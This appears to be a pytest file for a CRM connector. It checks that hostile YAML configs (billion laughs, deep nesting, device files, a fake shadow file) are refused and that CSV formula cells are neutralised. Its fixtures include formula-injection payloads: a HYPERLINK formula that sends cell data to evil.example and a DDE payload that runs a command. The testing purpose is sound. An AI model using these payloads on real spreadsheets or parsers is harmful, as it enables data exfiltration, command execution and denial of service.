"""Hostile files: what a user (or an attacker with write access to a folder) can hand the connector.

One table per kind of input. Every YAML case is refused in bounded time and memory with exit 2 and
a message naming the file, never a traceback and never the file's content. Every CSV the connector
writes makes formula cells inert, and a rejects file imports again as it is.
"""

from __future__ import annotations

import csv
import os
import time
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from connector import importer
from connector.cli import main
from connector.config import load_config
from connector.csvsafe import neutralise, restore
from connector.engine import Engine
from connector.sources.base import Cursor, Page, RemoteRecord
from connector.store.db import open_store
from tests.support import offline_config

pytestmark = pytest.mark.filterwarnings("ignore:The 'initial' parameter is deprecated:DeprecationWarning")

T0 = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
SECRET = "hunter2-shadow-hash"
MAPPING = """\
stages:
  - {name: New, category: in_progress}
  - {name: "=Won", category: succeeded}
statuses:
  Open: New
  Won: "=Won"
"""


def _laughs(folder: Path) -> Path:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 10)]
    return _write(folder, "laughs.yaml", "\n".join(lines) + "\n")


def _alias_chain(folder: Path) -> Path:
    # Each line is two levels deep, but every alias adds a level: 80 of them nest 80 deep.
    lines = ["a0: &a0 [x]"] + [f"a{i}: &a{i} [*a{i - 1}]" for i in range(1, 80)]
    return _write(folder, "chain.yaml", "\n".join(lines) + "\n")


def _write(folder: Path, name: str, text: str | bytes) -> Path:
    path = folder / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def _mapping_is(target: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        config = offline_config(folder, MAPPING)
        config.write_text(config.read_text().replace("mapping: mapping.yaml", f"mapping: {target}"))
        return config

    return make


def _fifo(folder: Path) -> Path:
    path = folder / "fifo.yaml"
    os.mkfifo(path)
    return path


# (case, config file maker, the file the message names, what it says)
YAML_CASES: list[tuple[str, Callable[[Path], Path], str, str]] = [
    ("billion laughs", _laughs, "laughs.yaml:1", "YAML aliases expand to more than 10,000 values"),
    ("config: /dev/zero", lambda _f: Path("/dev/zero"), "/dev/zero", "is a device, pipe or socket, not a regular file"),
    # The config names a mapping that is not a regular file: said at the config's line (config.py).
    ("mapping: /dev/zero", _mapping_is("/dev/zero"), "config.yaml:", "mapping file not found: /dev/zero"),
    ("a named pipe", _fifo, "fifo.yaml", "is a device, pipe or socket, not a regular file"),
    ("a folder", lambda f: f, "", "is a folder, not a regular file"),
    ("50 MB of config", lambda f: _write(f, "big.yaml", "# padding\n" * 5_000_000), "big.yaml",
     "is larger than 1024 KiB"),
    ("nested 100,000 deep (flow)", lambda f: _write(f, "deep.yaml", "[" * 100_000 + "]" * 100_000),
     "deep.yaml:1", "nested more than 64 levels deep"),
    ("nested 200 deep (block)", lambda f: _write(f, "deep.yaml", "".join("  " * i + "k:\n" for i in range(200))),
     "deep.yaml:65", "nested more than 64 levels deep"),
    ("aliases nesting 80 deep", _alias_chain, "chain.yaml", "nested more than 64 levels deep (through YAML aliases)"),
    ("/etc/shadow", lambda f: _write(f, "shadow", f"root:{SECRET}:19000:0:99999:7:::\nbin:*:19000:0:99999:7:::\n"),
     "shadow:1", "is not a connector config file: none of its 2 top-level keys is one it takes"),
    ("mapping: /etc/shadow", _mapping_is("shadow"), "shadow:1", "is not a connector mapping file"),
    ("a binary", lambda f: _write(f, "a.out", b"\x7fELF\x02\x01\x01\x00" + SECRET.encode() + b"\xd0\xff\n"),
     "a.out:1", "is not a UTF-8 text file"),
]


@pytest.mark.parametrize(("case", "make", "where", "says"), YAML_CASES, ids=[c[0] for c in YAML_CASES])
def test_hostile_yaml_is_refused_quickly_naming_the_file(
    tmp_path: Path, case: str, make: Callable[[Path], Path], where: str, says: str
) -> None:
    if case == "mapping: /etc/shadow":
        _write(tmp_path, "shadow", f"root:{SECRET}:19000:0:99999:7:::\n")
    config = make(tmp_path)
    started = time.monotonic()
    result = CliRunner().invoke(main, ["validate", "--config", str(config)])
    elapsed = time.monotonic() - started
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    line = next(x for x in result.output.splitlines() if says in x)
    assert where in line and str(tmp_path if where and not where.startswith("/") else "") in line
    assert SECRET not in result.output
    assert elapsed < 5, f"{case}: {elapsed:.1f}s"


HOSTILE_CELLS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("00Q5e00000AbCdEAAA", "00Q5e00000AbCdEAAA"),
    ("it's = fine", "it's = fine"),
]


@pytest.mark.parametrize(("cell", "written"), HOSTILE_CELLS)
def test_a_formula_cell_is_written_inert_and_read_back_as_it_was(cell: str, written: str) -> None:
    assert neutralise(cell) == written
    assert restore(written) == cell


def test_rejects_file_is_inert_and_imports_again_as_it_is(tmp_path: Path, db_url: str) -> None:
    config_path = offline_config(tmp_path, MAPPING, database=db_url)
    store = open_store(db_url)
    try:
        engine = Engine(load_config(config_path), store, {})
        synced = engine.synced("crm", "Lead")
        engine.apply_page(synced, Page([RemoteRecord("=L1", "Open", T0)], Cursor(T0, "=L1")), T0)
        source = tmp_path / "in.csv"
        rows = [["id", "stage"], *([cell, "Nope"] for cell, _ in HOSTILE_CELLS[:4]), ["=L1", "=Won"]]
        with source.open("w", encoding="utf-8", newline="") as out:
            csv.writer(out).writerows(rows)
        args = ["import", str(source), "--config", str(config_path), "--source", "crm", "--object", "Lead"]
        result = CliRunner().invoke(main, args)
        assert result.exit_code == 1, result.output
        rejects = tmp_path / "in.rejects.csv"
        with rejects.open(encoding="utf-8", newline="") as handle:
            written = list(csv.reader(handle))
        assert [r[2] for r in written[1:]] == [w for _, w in HOSTILE_CELLS[:4]]
        assert all(not cell.startswith(("=", "+", "-", "@")) for row in written for cell in row)
        # Read back by the importer, each cell is what the first file held.
        table = importer.read_table(rejects)
        assert [line.cells[2] for line in table.lines if line.cells] == [c for c, _ in HOSTILE_CELLS[:4]]
        # The funnel CSV: the stage named `=Won` (and its record moved there by the import) is inert.
        funnel = CliRunner().invoke(main, ["report", "funnel", "--format", "csv", "--config", str(config_path)])
        assert funnel.exit_code == 0, funnel.output
        stages = [row[3] for row in csv.reader(funnel.output.splitlines()[1:])]
        assert stages == ["New", "'=Won"]
    finally:
        store.close()
